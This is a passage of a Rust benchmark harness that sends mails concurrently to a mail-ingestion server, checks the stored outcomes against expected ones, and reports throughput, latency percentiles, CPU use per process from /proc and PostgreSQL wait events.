    Ok(reqwest::blocking::Client::builder()
        .no_proxy()
        .timeout(timeout)
        .build()?)
}

/// One request and its answer.
struct Exchange {
    index: usize,
    status: Option<u16>,
    latency: Duration,
    outcome: Option<String>,
    error: Option<String>,
}

/// Sends every mail once, `concurrency` at a time, in list order (a shared
/// cursor, so a reply goes out well after its original), each client thread
/// keeping its connection alive. Stops taking new mails at `deadline`.
fn send_all(
    url: &str,
    token: &str,
    mails: &[Mail],
    concurrency: usize,
    deadline: Instant,
) -> Vec<Exchange> {
    let cursor = AtomicUsize::new(0);
    let authorization = format!("Bearer {token}");
    let mut exchanges: Vec<Exchange> = std::thread::scope(|scope| {
        let workers: Vec<_> = (0..concurrency)
            .map(|_| {
                let (cursor, authorization) = (&cursor, &authorization);
                scope.spawn(move || {
                    let client = http_client(Duration::from_secs(30)).expect("an HTTP client");
                    let mut mine = Vec::new();
                    loop {
                        let index = cursor.fetch_add(1, Ordering::Relaxed);
                        if index >= mails.len() || Instant::now() > deadline {
                            return mine;
                        }
                        let started = Instant::now();
                        let result = client
                            .post(url)
                            .header(reqwest::header::AUTHORIZATION, authorization.as_str())
                            .header(reqwest::header::CONTENT_TYPE, "message/rfc822")
                            .body(mails[index].raw.clone())
                            .send()
                            .and_then(|response| {
                                let status = response.status().as_u16();
                                response.bytes().map(|body| (status, body))
                            });
                        let latency = started.elapsed();
                        mine.push(match result {
                            Ok((status, body)) => {
                                let json: Option<serde_json::Value> =
                                    serde_json::from_slice(&body).ok();
                                let outcome = json
                                    .as_ref()
                                    .and_then(|json| json.get("outcome"))
                                    .and_then(|outcome| outcome.as_str())
                                    .map(str::to_string);
                                Exchange {
                                    index,
                                    status: Some(status),
                                    latency,
                                    outcome,
                                    error: (!matches!(status, 200 | 201)).then(|| {
                                        String::from_utf8_lossy(&body).chars().take(300).collect()
                                    }),
                                }
                            }
                            Err(err) => Exchange {
                                index,
                                status: None,
                                latency,
                                outcome: None,
                                error: Some(err.to_string()),
                            },
                        });
                    }
                })
            })
            .collect();
        workers
            .into_iter()
            .flat_map(|worker| worker.join().expect("client thread panicked"))
            .collect()
    });
    exchanges.sort_by_key(|exchange| exchange.index);
    exchanges
}

struct EndToEndReport<'a> {
    mails: usize,
    exchanges: &'a [Exchange],
    wall: Duration,
    stored: &'a Stored,
    expected_outcomes: BTreeMap<String, i64>,
    /// Answers with another outcome than the mail's kind calls for.
    mismatches: Vec<Mismatch>,
}

struct Mismatch {
    index: usize,
    kind: Kind,
    got: String,
}

impl<'a> EndToEndReport<'a> {
    fn new(mails: &[Mail], exchanges: &'a [Exchange], wall: Duration, stored: &'a Stored) -> Self {
        let mut expected_outcomes = BTreeMap::new();
        for mail in mails {
            *expected_outcomes
                .entry(mail.kind.expected_outcome().to_string())
                .or_insert(0) += 1;
        }
        let mismatches = exchanges
            .iter()
            .filter(|exchange| exchange.error.is_none())
            .filter_map(|exchange| {
                let kind = mails[exchange.index].kind;
                let got = exchange.outcome.clone().unwrap_or_else(|| "(none)".into());
                (got != kind.expected_outcome()).then_some(Mismatch {
                    index: exchange.index,
                    kind,
                    got,
                })
            })
            .collect();
        EndToEndReport {
            mails: mails.len(),
            exchanges,
            wall,
            stored,
            expected_outcomes,
            mismatches,
        }
    }

    fn print(&self, concurrency: usize) {
        let seconds = self.wall.as_secs_f64();
        let mut latencies: Vec<Duration> = self.exchanges.iter().map(|e| e.latency).collect();
        latencies.sort();
        let percentile = |p: f64| {
            latencies
                .get(((latencies.len() as f64 * p).ceil() as usize).saturating_sub(1))
                .map_or(0.0, |latency| latency.as_secs_f64() * 1e3)
        };
        let mut statuses: BTreeMap<String, usize> = BTreeMap::new();
        for exchange in self.exchanges {
            let key = exchange.status.map_or_else(
                || "transport error".to_string(),
                |status| status.to_string(),
            );
            *statuses.entry(key).or_insert(0) += 1;
        }
        let tables = &self.stored.tables;
        println!(
            "  sent {} of {} mails in {seconds:.2} s with {concurrency} clients",
            self.exchanges.len(),
            self.mails
        );
        println!(
            "  requests/s      {:>8.0}",
            self.exchanges.len() as f64 / seconds
        );
        println!(
            "  stored mails/s  {:>8.0}   (inbound_messages rows: {})",
            tables.inbound_messages as f64 / seconds,
            tables.inbound_messages
        );
        println!(
            "  submissions/s   {:>8.0}   (submissions rows: {})",
            tables.submissions as f64 / seconds,
            tables.submissions
        );
        println!(
            "  latency ms      p50 {:.1}  p90 {:.1}  p99 {:.1}  max {:.1}",
            percentile(0.50),
            percentile(0.90),
            percentile(0.99),
            percentile(1.0)
        );
        println!(
            "  statuses        {}",
            statuses
                .iter()
                .map(|(status, count)| format!("{status}: {count}"))
                .collect::<Vec<_>>()
                .join(", ")
        );
        println!(
            "  outcomes stored {}",
            self.stored
                .outcomes
                .iter()
                .map(|(outcome, count)| format!("{outcome} {count}"))
                .collect::<Vec<_>>()
                .join(", ")
        );
        println!(
            "  outcomes meant  {}",
            self.expected_outcomes
                .iter()
                .map(|(outcome, count)| format!("{outcome} {count}"))
                .collect::<Vec<_>>()
                .join(", ")
        );
        println!(
            "  other rows      revisions {}, attachments {}, correspondence {}; database {:.0} MB",
            tables.revisions,
            tables.attachments,
            tables.correspondence,
            tables.database_bytes as f64 / 1e6
        );
        println!(
            "  failed requests {}",
            self.exchanges.iter().filter(|e| e.error.is_some()).count()
        );
    }

    /// Everything that makes the run invalid.
    fn failures(&self) -> Vec<String> {
        let mut failures = Vec::new();
        let failed: Vec<&Exchange> = self
            .exchanges
            .iter()
            .filter(|e| e.error.is_some())
            .collect();
        if !failed.is_empty() {
            failures.push(format!("{} requests failed", failed.len()));
            for exchange in failed.iter().take(5) {
                failures.push(format!(
                    "mail {}: status {:?}: {}",
                    exchange.index,
                    exchange.status,
                    exchange.error.as_deref().unwrap_or_default()
                ));
            }
        }
        if self.exchanges.len() < self.mails {
            failures.push(format!(
                "only {} of {} mails were sent within the time limit",
                self.exchanges.len(),
                self.mails
            ));
        }
        if self.stored.tables.inbound_messages != self.mails as i64 {
            failures.push(format!(
                "inbound_messages holds {} rows, {} mails were sent",
                self.stored.tables.inbound_messages, self.mails
            ));
        }
        if !self.mismatches.is_empty() {
            failures.push(format!(
                "{} mails got another outcome than their kind's",
                self.mismatches.len()
            ));
            for mismatch in self.mismatches.iter().take(5) {
                failures.push(format!(
                    "mail {} ({}): expected {}, got {}",
                    mismatch.index,
                    mismatch.kind.label(),
                    mismatch.kind.expected_outcome(),
                    mismatch.got
                ));
            }
        }
        failures
    }
}

/// CPU time of the machine and of each party, from /proc, in clock ticks.
struct CpuSample {
    machine_busy: u64,
    machine_idle: u64,
    machine_iowait: u64,
    client: u64,
    server: u64,
    /// PostgreSQL backends (and autovacuum workers) of the bench database, by pid.
    postgres_ours: HashMap<u32, u64>,
    /// The postmaster and its shared helpers (WAL writer, checkpointer,
    /// background writer), by pid. Other databases' backends are not counted.
    postgres_shared: HashMap<u32, u64>,
}

impl CpuSample {
    fn take(server_pid: u32, database: &str) -> Self {
        let stat = std::fs::read_to_string("/proc/stat").unwrap_or_default();
        let fields: Vec<u64> = stat
            .lines()
            .next()
            .unwrap_or_default()
            .split_whitespace()
            .skip(1)
            .filter_map(|field| field.parse().ok())
            .collect();
        let field = |n: usize| fields.get(n).copied().unwrap_or(0);
        // user nice system idle iowait irq softirq steal (guest time is inside user).
        let machine_busy = field(0) + field(1) + field(2) + field(5) + field(6) + field(7);
        let (mut postgres_ours, mut postgres_shared) = (HashMap::new(), HashMap::new());
        if let Ok(entries) = std::fs::read_dir("/proc") {
            for entry in entries.flatten() {
                let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
                    continue;
                };
                let comm = std::fs::read_to_string(entry.path().join("comm")).unwrap_or_default();
                if comm.trim() != "postgres" {
                    continue;
                }
                let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
                match postgres_role(&String::from_utf8_lossy(&cmdline), database) {
                    PostgresRole::Ours => postgres_ours.insert(pid, process_ticks(pid)),
                    PostgresRole::Shared => postgres_shared.insert(pid, process_ticks(pid)),
                    PostgresRole::OtherDatabase => None,
                };
            }
        }
        CpuSample {
            machine_busy,
            machine_idle: field(3),
            machine_iowait: field(4),
            client: process_tree_ticks(std::process::id()),
            server: process_tree_ticks(server_pid),
            postgres_ours,
            postgres_shared,
        }
    }
}

enum PostgresRole {
    Ours,
    Shared,
    OtherDatabase,
}

/// Tells PostgreSQL processes apart by the title they set:
/// `postgres: 15/main: <user> <database> 127.0.0.1(port) <state>` for a
/// backend, `postgres: 15/main: autovacuum worker <database>`,
/// `postgres: 15/main: walwriter` for a helper; the postmaster keeps its path.
fn postgres_role(cmdline: &str, database: &str) -> PostgresRole {
    let words: Vec<&str> = cmdline
        .split(['\0', ' '])
        .filter(|w| !w.is_empty())
        .collect();
    if words.contains(&database) {
        PostgresRole::Ours
    } else if !cmdline.starts_with("postgres:") {
        PostgresRole::Shared
    } else if cmdline.contains("autovacuum worker")
        || cmdline.contains("[local]")
        || cmdline.contains('(')
    {
        PostgresRole::OtherDatabase
    } else {
        PostgresRole::Shared
    }
}

/// utime + stime of a process and of its children it has reaped: the
/// `oped extract` children that read the documents are part of the cost.
fn process_tree_ticks(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let Some((_, rest)) = stat.rsplit_once(") ") else {
        return 0;
    };
    // cutime and cstime are fields 16 and 17 (13 and 14 after the name).
    let reaped: u64 = rest
        .split_whitespace()
        .skip(13)
        .take(2)
        .filter_map(|field| field.parse::<u64>().ok())
        .sum();
    process_ticks(pid) + reaped
}

/// utime + stime of a process (all its threads), in clock ticks; 0 when gone.
fn process_ticks(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    // The command name may hold spaces; the fields after it are positional
    // (state is field 3, utime 14, stime 15).
    let Some((_, rest)) = stat.rsplit_once(") ") else {
        return 0;
    };
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let parse = |n: usize| {
        fields
            .get(n)
            .and_then(|f| f.parse::<u64>().ok())
            .unwrap_or(0)
    };
    parse(11) + parse(12)
}

fn clock_ticks_per_second() -> f64 {
    Command::new("getconf")
        .arg("CLK_TCK")
        .output()
        .ok()
        .and_then(|output| String::from_utf8(output.stdout).ok())
        .and_then(|text| text.trim().parse().ok())
        .unwrap_or(100.0)
}

/// Where the machine's CPU went during the run: the client (this process),
/// `oped serve`, PostgreSQL, everything else, and idle. The client shares the
/// two cores with the server and the database, so it is part of the cost.
fn print_cpu(
    before: &CpuSample,
    after: &CpuSample,
    wall: Duration,
    mails: usize,
    parse: Option<&ParseFigures>,
) {
    let hz = clock_ticks_per_second();
    let seconds = |ticks: u64| ticks as f64 / hz;
    let grown = |after: &HashMap<u32, u64>, before: &HashMap<u32, u64>| -> u64 {
        after
            .iter()
            .map(|(pid, ticks)| ticks.saturating_sub(before.get(pid).copied().unwrap_or(0)))
            .sum()
    };
    let postgres_ours = grown(&after.postgres_ours, &before.postgres_ours);
    let postgres_shared = grown(&after.postgres_shared, &before.postgres_shared);
    let client = after.client.saturating_sub(before.client);
    let server = after.server.saturating_sub(before.server);
    let busy = after.machine_busy.saturating_sub(before.machine_busy);
    let idle = after.machine_idle.saturating_sub(before.machine_idle);
    let iowait = after.machine_iowait.saturating_sub(before.machine_iowait);
    let other = busy.saturating_sub(client + server + postgres_ours + postgres_shared);
    let capacity = busy + idle + iowait;
    let share = |ticks: u64| 100.0 * ticks as f64 / capacity.max(1) as f64;
    println!(
        "  cpu of the whole machine during the run ({:.1} core-seconds in {:.2} s; load average now {}):",
        seconds(capacity),
        wall.as_secs_f64(),
        load_average()
    );
    for (label, ticks) in [
        ("client (this bench)", client),
        ("oped + extractors", server),
        ("postgres backends", postgres_ours),
        ("postgres shared", postgres_shared),
        ("other processes", other),
        ("idle", idle),
        ("iowait", iowait),
    ] {
        println!(
            "    {label:<20} {:>6.1} s {:>5.1}%  {:>6.0} µs/mail",
            seconds(ticks),
            share(ticks),
            seconds(ticks) * 1e6 / mails as f64
        );
    }
    let cpu_per_mail = seconds(client + server + postgres_ours + postgres_shared) / mails as f64;
    println!(
        "    CPU per mail (client + oped + postgres): {:.2} ms; {} idle cores would give at most {:.0} mails/s \
         (an upper bound that ignores waiting)",
        cpu_per_mail * 1e3,
        cores(),
        cores() as f64 / cpu_per_mail
    );
    if share(other) > 10.0 {
        println!(
            "    WARNING: other processes used {:.0}% of the machine: these figures understate what it can do",
            share(other)
        );
    }
    if let Some(parse) = parse {
        let server_per_mail = seconds(server) * 1e6 / mails as f64;
        let parse_per_mail = parse.median_per_mail.as_secs_f64() * 1e6;
        println!(
            "    of oped's {server_per_mail:.0} µs/mail, ~{parse_per_mail:.0} µs is the parse step (parse mode, 1 thread); \
             the rest is HTTP, the pool, diesel, libpq and hashing"
        );
    }
}

fn cores() -> usize {
    std::thread::available_parallelism().map_or(1, usize::from)
}

/// The 1, 5 and 15 minute load averages: a busy machine skews every figure.
fn load_average() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .map(|text| {
            text.split_whitespace()
                .take(3)
                .collect::<Vec<_>>()
                .join(" ")
        })
        .unwrap_or_else(|_| "unknown".into())
}

/// What the bench database's backends were doing during the run, sampled
/// from `pg_stat_activity`: where the server waits inside PostgreSQL.
struct WaitSampler {
    stop: Arc<AtomicBool>,
    handle: std::thread::JoinHandle<anyhow::Result<WaitProfile>>,
}

struct WaitProfile {
    samples: u64,
    /// "state: wait event" → backends seen in it, summed over samples.
    seen: BTreeMap<String, u64>,
}

#[derive(QueryableByName)]
struct WaitRow {
    #[diesel(sql_type = Text)]
    activity: String,
    #[diesel(sql_type = BigInt)]
    backends: i64,
}

/// How often the sampler looks: often enough for a 10–30 s run to give
/// hundreds of samples, rarely enough to cost nothing measurable.
const WAIT_SAMPLE_INTERVAL: Duration = Duration::from_millis(20);

impl WaitSampler {
    fn start(database_url: &str) -> anyhow::Result<Self> {
        let mut conn = PgConnection::establish(database_url).context("sampler connection")?;
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let handle = std::thread::spawn(move || {
            let mut profile = WaitProfile {
                samples: 0,
                seen: BTreeMap::new(),
            };
            while !stopped.load(Ordering::Relaxed) {
                // An active backend with no wait event is on the CPU (or
                // waiting for one); "idle in transaction" waits for oped.
                let rows: Vec<WaitRow> = diesel::sql_query(
                    "SELECT coalesce(state, 'starting') || ': ' || coalesce(wait_event_type || '/' || wait_event, 'on cpu') AS activity, \
                            count(*) AS backends \
                     FROM pg_stat_activity \
                     WHERE datname = current_database() AND pid <> pg_backend_pid() \
                       AND backend_type = 'client backend' \
                     GROUP BY 1",
                )
                .load(&mut conn)?;
                profile.samples += 1;
                for row in rows {
                    *profile.seen.entry(row.activity).or_insert(0) += row.backends as u64;
                }
                std::thread::sleep(WAIT_SAMPLE_INTERVAL);
            }
            Ok(profile)
        });
        Ok(WaitSampler { stop, handle })
    }

    fn finish(self) -> anyhow::Result<WaitProfile> {
        self.stop.store(true, Ordering::Relaxed);
        self.handle
            .join()
            .map_err(|_| anyhow::anyhow!("the wait sampler panicked"))?
    }
}

impl WaitProfile {
    fn print(&self) {
        println!(
            "  postgres backends of the bench database, on average over {} samples:",
            self.samples
        );
        let mut seen: Vec<(&String, &u64)> = self.seen.iter().collect();
        seen.sort_by(|a, b| b.1.cmp(a.1));
        for (activity, count) in seen {
            println!(
                "    {:>5.2}  {activity}",
                *count as f64 / self.samples.max(1) as f64
            );
        }
    }
}
